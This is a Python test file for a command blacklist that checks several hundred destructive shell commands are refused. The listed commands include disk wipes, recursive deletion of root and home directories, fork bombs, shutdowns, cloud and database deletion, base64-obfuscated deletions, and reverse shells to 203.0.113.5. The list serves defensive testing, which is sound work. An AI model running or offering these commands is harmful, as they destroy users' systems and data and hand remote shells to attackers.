"""What is refused outright, in every disguise. No script here is ever run."""

from __future__ import annotations

import pytest

from bubbles.controller.policy.blacklist import Tier
from tests.policy.test_blacklist_cases import lines, look

SCRIPTS = r"""
rm -rf /
rm -fr /
rm -Rf /
rm -r --force /
rm --rec --fo /
rm -rf -- /
rm -rf //
rm -rf /.
rm -rf /*
rm -rf /**
rm -rf /./*
rm -rf /home/..
rm / -rf
/bin/rm -rf /
\rm -rf ~
busybox rm -rf /
rm -rf ~
rm -rf ~/
rm -rf ~/*
rm -rf ~/.*
rm -rf ~/{*,.*}
rm -rf $HOME
rm -rf "$HOME"/*
rm -rf "${HOME}"
rm -rf ~root
rm -rf ~alice
rm -rf /root
rm -rf /home
rm -rf /home/*
rm -rf /home/alice
rm -rf /Users/ann
rm -rf .
rm -rf ./
rm -rf ./*
rm -rf *
rm -rf .[!.]* *
rm -rf ..
rm -rf ../..
rm -rf ../proj
rm -rf sub/..
rm -rf @ROOT@
rm -rf @ROOT@/
rm -rf @ROOT@/*
rm -rf /srv/w
rm -rf /srv/w/*
rm -rf /srv/w/desk
rm -rf /usr
rm -rf /etc
rm -rf /var/lib
rm -rf /u*
rm -rf /???
rm -rf .git
rm -rf build /
rm -rf build ~
cd / && rm -rf *
cd ~ && rm -rf *
cd .. && rm -rf *
cd sub && rm -rf ..
sudo rm -rf /
sudo -u root rm -rf /
env rm -rf /
env A=1 rm -rf /
nice rm -rf /
nohup rm -rf / &
exec rm -rf /
command rm -rf /
builtin command rm -rf /
eval 'rm -rf /'
bash -c 'rm -rf /'
sh -c "rm -rf ~"
bash -c "bash -c 'rm -rf /'"
(rm -rf /)
{ rm -rf /; }
true && rm -rf /
false || rm -rf /
if true; then rm -rf /; fi
for i in 1; do rm -rf /; done
while :; do rm -rf ~; done
echo `rm -rf /`
x=$(rm -rf /)
cat <(rm -rf ~)
echo / | xargs rm -rf
find / -maxdepth 1 | xargs rm -rf
trap 'rm -rf ~' EXIT
rm -rf / --no-preserve-root
rm -r --no-pres build
X=/; rm -rf $X
D=~; rm -rf "$D"
a=r; b=m; $a$b -rf /
$(echo rm) -rf ~
$UNSET rm -rf /
/???/rm -rf /
r?? -rf /; /bin/r[m] -rf ~
echo cm0gLXJmIH4K | base64 -d | sh
echo 726d202d7266207e | xxd -r -p | sh
echo 'rm -rf ~' | sh
eval "$(echo cm0gLXJmIH4K | base64 --decode)"
find / -delete
find / -type f -delete
find ~ -delete
find . -delete
find . -type f -delete
find -delete
find .. -name x -delete
find @ROOT@ -delete
find / -exec rm {} +
find . -exec rm -rf {} \;
find ~ -name '*' -exec rm -f {} \;
find / -execdir rm -rf {} +
fd -e py -X rm
fd . -x rm -rf
fdfind --exec-batch rm
mv ~ /tmp/x
mv ~/* /dev/null
mv src/app.py /dev/null
mv -f src /dev/null
mv / /tmp
chmod -R 777 /
chmod -R 000 ~
chmod --recursive 777 /etc
chmod 777 -R /
chmod -R a-rwx .
chown -R nobody: /
chown -R nobody:nogroup ~
chown -hR me @ROOT@
chgrp -R x /usr
chattr -R +i /
setfacl -R -m u:x:rwx /
mkfs /dev/sda1
mkfs.ext4 /dev/sda1
mkfs.xfs -f /dev/nvme0n1p2
mkfs -t ext4 /dev/sdb
mke2fs /dev/sdb1
mkswap /dev/sdb2
wipefs -a /dev/sda
wipefs --all /dev/sda
blkdiscard /dev/nvme0n1
dd if=/dev/zero of=/dev/sda
dd if=/dev/zero of=/dev/sda bs=1M
dd if=x of=/dev/nvme0n1
dd of=/dev/disk2 if=a.img
dd if=/dev/urandom of=/dev/mem
dd if=a of=/dev/../dev/sda
cat x > /dev/sda
cat x >> /dev/sdb1
cat x >| /dev/vda
echo x &> /dev/mmcblk0
> /dev/sda
: > /dev/mapper/vg-root
cp x /dev/sda
cp -t /dev/sda x
mv x.img /dev/sdb
tee /dev/sda < x
cat x | sudo tee /dev/sda
echo b > /proc/sysrq-trigger
echo b | tee /proc/sysrq-trigger
echo c | sudo tee /proc/sysrq-trigger
fdisk /dev/sda
sfdisk /dev/sda < table
parted /dev/sda mklabel gpt
parted -s /dev/sda rm 1
sgdisk --zap-all /dev/sda
cryptsetup luksFormat /dev/sda1
lvremove -f vg/root
pvremove /dev/sdb
zpool destroy tank
diskutil eraseDisk JHFS+ x disk2
hdparm --security-erase p /dev/sda
nvme format /dev/nvme0
shred -u ~/.ssh/id_ed25519
shred /dev/sda
shred -n 3 -z /etc/passwd
truncate -s 0 /dev/sda
:(){ :|:& };:
:() { : | : & }; :
bomb(){ bomb|bomb& };bomb
b() { b & b; }; b
f(){ f | f & }; f
function z { z | z & }; z
perl -e 'fork while fork'
perl -e 'fork while 1'
perl -e 'while(1){fork}'
python -c "import os; [os.fork() for _ in iter(int, 1)]"
ruby -e 'loop { fork }'
ruby -e 'fork while fork'
shutdown -h now
shutdown now
shutdown -r +5
/sbin/shutdown -h now
sudo reboot
reboot -f
reboot
halt
halt -p
poweroff
init 0
init 6
telinit 6
systemctl poweroff
systemctl reboot
systemctl -f reboot
sudo systemctl halt
loginctl poweroff
kill -9 -1
kill -KILL -1
kill -s KILL -1
kill -- -1
git filter-branch --tree-filter 'rm x' HEAD
git filter-branch --force --index-filter 'git rm -r .' HEAD
git filter-repo --path src
docker system prune -af --volumes
docker system prune --volumes -f
docker volume rm data
docker volume prune -f
redis-cli FLUSHALL
redis-cli -h db flushall
redis-cli flushdb
aws s3 rm s3://bucket --recursive
aws s3 rm --recursive s3://bucket
aws s3 rb s3://bucket --force
gsutil -m rm -r gs://bucket
terraform destroy
terraform destroy -auto-approve
terraform apply -destroy
kubectl delete namespace prod
kubectl delete ns prod
kubectl delete pods --all
dropdb prod
psql -c 'DROP DATABASE prod'
psql -d x -c "drop table users;"
mysql -e 'DROP DATABASE x'
mysql -e "TRUNCATE TABLE t"
echo 'drop database x' | psql
mongosh --eval 'db.dropDatabase()'
gh repo delete x/y --yes
tar --remove-files -cf /tmp/x.tar .
tar -C ~ --remove-files -cf /tmp/x.tar .
tar cf /tmp/x.tar --remove-files ~
rsync -a --delete /tmp/empty/ ./
rsync -a --del /tmp/empty/ ~
rsync -a --delete-after empty/ /
nc -e /bin/sh 203.0.113.5 4444
nc 203.0.113.5 4444 -e /bin/bash
ncat --exec /bin/sh h 1
nc -c bash h 4444
socat TCP:h:1 EXEC:/bin/sh
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
sh -i 5<> /dev/tcp/h/1
mkfifo f; cat f | sh -i 2>&1 | nc h 4444 > f
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("sh")'
python3 -c "import shutil; shutil.rmtree('/')"
python -c "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"
python -c "from pathlib import Path; import shutil; shutil.rmtree(Path.home())"
python -c "import os; os.system('rm -rf ~')"
python -c "import os; os.system('rm -rf /')"
perl -e 'system("rm -rf /")'
ruby -e 'require "fileutils"; FileUtils.rm_rf("/")'
node -e "require('fs').rmSync('/', {recursive: true})"
node -e "require('child_process').execSync('rm -rf ~/*')"
awk 'BEGIN{system("rm -rf ~")}'
npx --yes rimraf ~
pnpm dlx rimraf .
python3 -c 'import os; os.system("shutdown -h now")'
exec sh < /dev/tcp/h/1
cmake -E remove_directory @HOME@
cmake -E rm -rf /
cmake -E rm -r @ROOT@
ctest --build-and-test . b --test-command rm -rf /
sh -c '$0 "$@"' rm -rf /
xargs rm -rf / < x
pytest -q; rm -rf ~
pytest -q & rm -rf ~
pytest -q | rm -rf ~
"""

OF_SEVERAL_LINES = (
    "python3 -c 'import os\nwhile True: os.fork()'",
    "python3 - <<'PY'\nimport shutil; shutil.rmtree('/')\nPY",
    "pytest -q\\\n; rm -rf ~",
)


@pytest.mark.req("DEC-01", "DEC-02")
def test_what_destroys_is_refused() -> None:
    asked = {script: look(script)[:1] for script in (*lines(SCRIPTS), *OF_SEVERAL_LINES) if not refused(script)}
    assert asked == {}


def refused(script: str) -> bool:
    return any(finding.tier is Tier.DESTRUCTIVE for finding in look(script))
